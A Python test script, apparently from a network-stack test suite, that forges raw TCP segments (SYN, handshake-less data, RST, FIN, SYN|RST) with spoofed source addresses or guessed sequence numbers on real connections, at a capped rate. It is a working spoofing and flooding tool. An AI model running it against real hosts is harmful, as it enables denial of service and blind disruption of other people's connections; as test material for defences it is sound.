#!/usr/bin/env python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
# Forged TCP segments from a raw socket, at a bounded rate and count (the attack tests):
#   forge.py KIND DST PORT COUNT RATE SOURCES [TUPLES_FILE]
# KIND: syn | data (ACK|PSH with a request line, no handshake) | rst | fin | synrst (SYN|RST).
# SOURCES: a prefix "A.B.C.D/N" to draw forged sources from, or "tuples" to take
# "src sport seq" lines from TUPLES_FILE (segments on real connections, with a sequence number
# at least 2^30 away from seq: out of any window, what a blind forger sends almost always), or
# "own" to take them from TUPLES_FILE at exactly seq (the client itself, which knows it).
# Prints how many were sent. Sequence numbers are random (what a blind forger has), but with "own".
import ipaddress, random, socket, struct, sys, time

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def segment(src, dst, sport, dport, flags, payload, seq=None):
    if seq is None:
        seq = random.getrandbits(32)
    ack = random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0) + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp

def main():
    kind, dst, port, count, rate, sources = sys.argv[1], sys.argv[2], int(sys.argv[3]), \
        int(sys.argv[4]), float(sys.argv[5]), sys.argv[6]
    flags = {"syn": 0x02, "data": 0x18, "rst": 0x04, "fin": 0x11, "synrst": 0x06}[kind]
    payload = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" if kind == "data" else b""
    if sources in ("tuples", "own"):
        tuples = [l.split() for l in open(sys.argv[7]) if l.strip()]
    else:
        net = ipaddress.ip_network(sources)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start, sent = time.monotonic(), 0
    for i in range(count):
        seq = None
        if sources in ("tuples", "own"):
            t = tuples[i % len(tuples)]
            src, sport = t[0], int(t[1])
            seq = int(t[2]) if sources == "own" else \
                (int(t[2]) + (1 << 30) + random.getrandbits(31)) & 0xffffffff
        else:
            src = str(net[random.randrange(1, net.num_addresses - 1)])
            sport = random.randrange(1024, 65535)
        s.sendto(segment(src, dst, sport, port, flags, payload, seq), (dst, 0))
        sent += 1
        ahead = start + sent / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    print(sent)

main()
